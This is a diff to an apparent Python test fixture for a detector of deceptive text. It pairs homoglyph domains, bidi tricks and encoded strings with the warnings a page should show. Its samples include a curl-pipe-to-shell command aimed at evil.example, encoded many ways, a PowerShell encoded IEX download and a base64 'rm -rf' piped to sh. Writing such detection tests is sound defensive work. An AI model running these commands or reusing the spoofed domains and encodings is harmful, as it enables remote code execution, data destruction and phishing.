@@ -1,8 +1,11 @@
 """The deceptions of the threat list, each with what a page must say of it. Kept in escapes, so that reading this file is safe."""
 
 import base64
+import gzip
+import zlib
 
 SECRET = b"curl https://evil.example/x | sh"
+ENCODED = base64.b64encode(SECRET * 2).decode()
 
 # name: (the text, what must be among its chips, marks and flags)
 TEXTS: dict[str, tuple[str, str]] = {
@@ -47,18 +50,81 @@ TEXTS: dict[str, tuple[str, str]] = {
     "script address, broken": ("java\nscript:alert(1)", "carries a script"),
     "data address": ("data:text/html;base64,AAAA", "carries a script"),
     "chip imitated": ("\u27e8U+0041\u27e9", "U+27E8"),
+    # letters, digits and signs that pretend to be others, by the data of UTS #39
+    "whole host of twins": ("https://\u0430\u0440\u0440\u04cf\u0435.com/pay", "xn--80ak6aa92e.com"),
+    "whole word of twins": ("\u0430\u0440\u0440\u04cf\u0435", "looks like a"),
+    "one letter of twins": ("x = \u0430", "looks like a"),
+    "small capital": ("\u0262oogle.com", "a letter of phonetics"),
+    "latin alpha": ("p\u0251ypal.com", "looks like a"),
+    "dotless i in a host": ("m\u0131crosoft.com", "looks like i"),
+    "deseret": ("g\U0001042c\U0001042cgle.com", "looks like o"),
+    "hebrew in a host": ("g\u05e1ogle.com", "looks like o"),
+    "armenian": ("g\u0585\u0585gle.com", "looks like o"),
+    "division slash": ("https://bank.com\u2215login.evil.com", "looks like /"),
+    "fraction slash": ("https://bank.com\u2044login.evil.com", "looks like /"),
+    "katakana no": ("bank.com\u30celogin", "looks like /"),
+    "one dot leader": ("bank\u2024com", "looks like ."),
+    "full-width dot": ("bank\uff0ecom", "looks like ."),
+    "ideographic full stop": ("bank\u3002com", "looks like ."),
+    "full-width at": ("pay@bank.com\uff20evil.example", "looks like @"),
+    "letter colon": ("https\ua789//bank.com", "looks like :"),
+    "hyphen in an identifier": ("A\u201010077", "looks like -"),
+    "full-width digits": ("\uff11\uff10\uff10", "special form"),
+    "mathematical digits": ("\U0001d7cf\U0001d7ce\U0001d7ce", "special form"),
+    "arabic zero in a number": ("1\u066000", "digit 0 of another writing"),
+    "bengali digits alone": ("\u09ea\u09ea", "digit 4 of another writing"),
+    "dot leader in an amount": ("1\u2024000", "looks like ."),
+    "circled letters": ("send \u24d0\u24d3\u24dc\u24d8\u24dd now", "special form"),
+    # order
+    "numbers around hebrew": ("pay 100 \u05d0\u05d1 200 to 300", "in the order in which they are written"),
+    "hebrew first": ("\u05d0\u05d1 to \u05d2\u05d3", "in the order in which they are written"),
+    "arabic digits in an identifier": ("A-\u0661\u0660\u0660\u0666\u0667", "in the order in which they are written"),
+    "both directions in a word": ("ab\u05d0\u05d1cd", "in the order in which they are written"),
+    # bytes as text
+    "powershell": ("powershell -enc " + base64.b64encode("IEX(curl evil.example)".encode("utf-16-le")).decode(), "holds base64"),
+    "hexadecimal with spaces": (SECRET.hex(" "), "hexadecimal bytes"),
+    "hexadecimal with colons": (SECRET.hex(":").upper(), "hexadecimal bytes"),
+    "hexadecimal as an array": (", ".join(f"0x{byte:02x}" for byte in SECRET), "hexadecimal bytes"),
+    "percent escapes": ("".join(f"%{byte:02X}" for byte in b"IEX(curl)"), "percent escapes"),
+    "percent escapes in a link": ("https://a.example/?q=" + "".join(f"%{byte:02x}" for byte in b"rm-rf"), "percent escapes"),
+    "backslash escapes": ("".join(f"\\x{byte:02x}" for byte in SECRET), "escaped characters"),
+    "unicode escapes": ("".join(f"\\u{byte:04x}" for byte in SECRET), "escaped characters"),
+    "octal escapes": ("".join(f"\\{byte:03o}" for byte in SECRET), "escaped characters"),
+    "entities": ("".join(f"&#{byte};" for byte in SECRET), "HTML entities"),
+    "hexadecimal entities": ("".join(f"&#x{byte:x};" for byte in SECRET), "HTML entities"),
+    "quoted-printable": ("".join(f"={byte:02X}" for byte in SECRET), "quoted-printable"),
+    "base32": (base64.b32encode(SECRET).decode(), "base32"),
+    "base85": (base64.b85encode(SECRET).decode(), "base85"),
+    "ascii85": ("<~" + base64.a85encode(SECRET).decode() + "~>", "ascii85"),
+    "zlib": (base64.b64encode(zlib.compress(SECRET)).decode(), "base64"),
+    "gzip": (base64.b64encode(gzip.compress(SECRET)).decode(), "base64"),
+    "base64 in groups": (" ".join(ENCODED[i : i + 20] for i in range(0, len(ENCODED), 20)), "base64"),
+    "base64 in groups inside": (
+        "Run this: " + " ".join(ENCODED[i : i + 8] for i in range(0, len(ENCODED), 8)) + " and report.",
+        "holds base64",
+    ),
+    "base64 in lines": (base64.encodebytes(SECRET * 8).decode(), "base64"),
+    "base64 of cyrillic": (base64.b64encode("\u0443\u0434\u0430\u043b\u0438 \u0432\u0441\u0451".encode()).decode(), "base64"),
+    "short base64": ("echo cm0gLXJmIC8gLS1ubw== | sh", "holds base64"),
 }
 
+# Said, but no reason to ask more people: plain typography, or plain text that only looks like markup.
+SAID_ONLY = {
+    "not nfc",
+    "trailing space",
+    "padding by characters",
+    "padding by lines",
+    "html",
+    "svg",
+    "markdown image",
+    "markdown link",
+    "chip imitated",
+}
+# What is packed into a key is odd enough; keys are only asked for what hides and what pretends.
+PACKED = {
+    name
+    for name in TEXTS
+    if any(way in name for way in ("base", "ascii85", "hexa", "escapes", "entities", "quoted", "zlib", "gzip", "powershell"))
+}
 # Those that raise the risk; "key too" where the same text as a key must as well.
-RAISES = {
-    **dict.fromkeys(
-        [
-            "bidi override", "bidi isolate", "arabic letter mark", "tags", "variation selector", "variation selector supplement",
-            "zero width space", "zero width joiner", "word joiner", "byte order mark", "soft hyphen", "hangul filler", "halfwidth hangul filler",
-            "braille blank", "private use", "line separator", "paragraph separator", "null", "next line", "ansi escape", "combining stack",
-            "mixed scripts", "twins among latin", "full width", "user in address", "punycode", "script address", "script address, broken", "data address",
-        ],
-        "key too",
-    ),
-    **dict.fromkeys(["base64", "base64 inside", "hexadecimal"], "value"),
-}  # fmt: skip
+RAISES = {name: "value" if name in PACKED else "key too" for name in TEXTS if name not in SAID_ONLY}
